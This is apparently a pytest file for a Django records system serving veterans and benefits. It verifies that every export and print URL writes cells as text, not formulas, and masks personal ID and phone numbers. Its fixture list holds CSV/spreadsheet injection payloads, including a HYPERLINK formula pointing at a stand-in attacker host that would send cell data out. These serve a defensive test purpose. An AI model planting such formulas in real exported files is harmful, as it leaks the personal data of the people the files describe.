"""Every export and print: cells are data, never formulas, and personal numbers are masked unless
asked for in full. Walks every registered ledger (file and print) and the other file views; a new
file or print URL must be added to FILE_VIEWS, so it is walked too."""

from __future__ import annotations

import csv
import io
import types
from decimal import Decimal

import openpyxl
import pytest
from django.urls import URLPattern, URLResolver, get_resolver, reverse

from tests.ledgers.test_exports import HUBIN_VILLAGE, XINHU, YEAR, townships  # noqa: F401 — fixture
from yizhan.benefits.exports import bank_xlsx
from yizhan.core.sheets import csv_text
from yizhan.ledgers.exports.registry import LEDGERS
from yizhan.people.models import Household, Person

FORMULAS = ['=HYPERLINK("http://evil.example/"&A1,"点此")', "+1+1", "-2+3", "@SUM(1)", "\t=1", "\r=1"]

# Every URL that hands out a file or a print layout, and the test here (or elsewhere) that walks it.
FILE_VIEWS = {
    "ledgers:export": "test_every_ledger_file_is_text_and_masked_by_default",
    "ledgers:print": "test_every_ledger_print_is_masked_by_default",
    "ledgers:export_download": "the background file is written by the same service (test_export_background)",
    "conscription:unregistered_export": "test_the_must_register_csv_is_text_and_masked_by_default",
    "benefits:batch_export": "test_the_bank_file_is_text + benefits/test_batches (masked by default)",
    # The clerk's own sheet with its errors, to correct and re-import: full by design, and only for
    # holders of both export and reveal_pii (docs/decisions.md). Its cells are written as text too.
    "ledgers:run_report": "ledgers/test_import_pages",
    # These prints show no personal number at all (the card's snapshot holds the masked one).
    "care:merit_notice_print": "care/test_pages",
    "care:merit_notice_receipt": "care/test_pages",
    "care:gift_pack_receipt": "care/test_pages",
    "care:visit_receipt": "care/test_pages",
    "veterans:card_print": "veterans/test_veterans",
    # The campaign's 走访慰问登记表: a Ledger of the same columns machinery (cells as text), with no
    # ID number or phone column at all.
    "ledgers:campaign_export": "care/test_campaign_pages",
    # The 80 mm ticket receipt (number, item, window; the visitor's number masked) and the case's
    # 受理通知书 (name, item, promised day; no personal number).
    "hall:receipt": "hall/test_pages",
    "hall_cases:receipt": "hall_cases/test_case_pages",
    # 统计's tables: counts only, no personal value at all; the xlsx goes through the ledgers' writer
    # (cells as text) and the print is its A4 landscape page (reports/test_outputs).
    "reports:export": "reports/test_outputs",
    "reports:print": "reports/test_outputs",
}
FILE_WORDS = ("export", "print", "receipt", "report", "download", ".xlsx", ".csv")


def _names(resolver: URLResolver, prefix: str = "", namespace: str = ""):
    for entry in resolver.url_patterns:
        if isinstance(entry, URLResolver):
            inner = f"{namespace}:{entry.namespace}" if namespace and entry.namespace else entry.namespace
            yield from _names(entry, prefix + str(entry.pattern), inner or namespace)
        elif isinstance(entry, URLPattern) and entry.name:
            yield prefix + str(entry.pattern), f"{namespace}:{entry.name}" if namespace else entry.name


def test_every_file_or_print_url_is_listed_here():
    found = {
        name for route, name in _names(get_resolver()) if any(w in route or w in name for w in FILE_WORDS)
    }
    found -= {"ledgers:exports", "ledgers:export_run"}  # the pages listing exports, not files
    # 统计's pages live under reports/: pages, not files (their files are reports:export and :print).
    found -= {"reports:index", "reports:dashboard", "reports:rows", "reports:screen"}
    assert found == set(FILE_VIEWS)


@pytest.fixture
def planted(townships):  # noqa: F811 — the fixture imported above
    """Every address a formula; returns the full numbers that must not appear unasked."""
    for formula, person in zip(FORMULAS * 10, Person.objects.order_by("pk"), strict=False):
        Person.objects.filter(pk=person.pk).update(address=formula)
    Household.objects.update(address=FORMULAS[0])
    people = Person.objects.all()
    return {p.id_number for p in people if p.id_number} | {p.phone for p in people if p.phone}


def _cells(content: bytes):
    for row in openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows():
        yield from row


@pytest.mark.parametrize("slug", list(LEDGERS))
def test_every_ledger_file_is_text_and_masked_by_default(login_as, planted, slug):
    ledger = LEDGERS[slug]
    client = login_as("xinhu_head" if slug != "preferential-cards" else "decheng")
    region = XINHU if slug != "preferential-cards" else "371402000000"
    data = {"region": region, "reason": "报送上级", **({"year": YEAR} if ledger.year_label else {})}
    response = client.post(reverse("ledgers:export", args=[slug]), data)
    assert response.status_code == 200, response.content[:300]
    cells = list(_cells(b"".join(response.streaming_content)))
    assert not [c.coordinate for c in cells if c.data_type == "f"], "no cell is a formula"
    values = {str(c.value) for c in cells if c.value is not None}
    assert not values & planted, "the holder of reveal_pii gets masked numbers unless he asks"
    for cell in cells:
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
            assert cell.data_type == "s"


@pytest.mark.parametrize("slug", list(LEDGERS))
def test_every_ledger_print_is_masked_by_default(login_as, planted, slug):
    client = login_as("xinhu_head" if slug != "preferential-cards" else "decheng")
    region = XINHU if slug != "preferential-cards" else "371402000000"
    page = client.get(
        reverse("ledgers:print", args=[slug]), {"region": region, "year": YEAR}
    ).content.decode()
    assert "填报单位" in page
    assert not [number for number in planted if number in page]


def test_a_formula_reaches_the_files_as_a_string_cell(login_as, planted):
    response = login_as("xinhu_head").post(
        reverse("ledgers:export", args=["veterans"]), {"region": XINHU, "reason": "x"}
    )
    cells = list(_cells(b"".join(response.streaming_content)))
    assert [c.data_type for c in cells if c.value == FORMULAS[0]] == ["s"]


def test_the_must_register_csv_is_text_and_masked_by_default(login_as, planted, townships):  # noqa: F811
    url = reverse("conscription:unregistered_export") + f"?year={YEAR}"
    content = login_as("xinhu_head").get(url).content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[1][1] == "赵应登"
    assert rows[1][6] == "'" + Person.objects.get(name="赵应登").address
    assert not [v for row in rows for v in row if v.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert not [number for number in planted if number in content]


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_cell_starting_like_a_formula_is_prefixed_and_other_cells_are_not(formula):
    assert csv_text(formula) == "'" + formula
    assert csv_text("新湖路1号") == "新湖路1号"
    assert csv_text(-5) == "-5" and csv_text(Decimal("-1.50")) == "-1.50"  # numbers carry no formula


def test_the_bank_file_is_text():
    person = types.SimpleNamespace(name="=1+1", id_number="371402199001150036")
    payment = types.SimpleNamespace(
        recipient=types.SimpleNamespace(recipient=person, account="6228480012345678901", bank_name="@SUM(1)"),
        amount=Decimal("1000.00"),
        period=types.SimpleNamespace(person=person, label="第1期"),
    )
    cells = list(_cells(bank_xlsx([payment], full=False)))
    assert not [c for c in cells if c.data_type == "f"]
    assert {c.value for c in cells if c.data_type == "s"} >= {"=1+1", "@SUM(1)"}
    assert "371402199001150036" not in {c.value for c in cells}
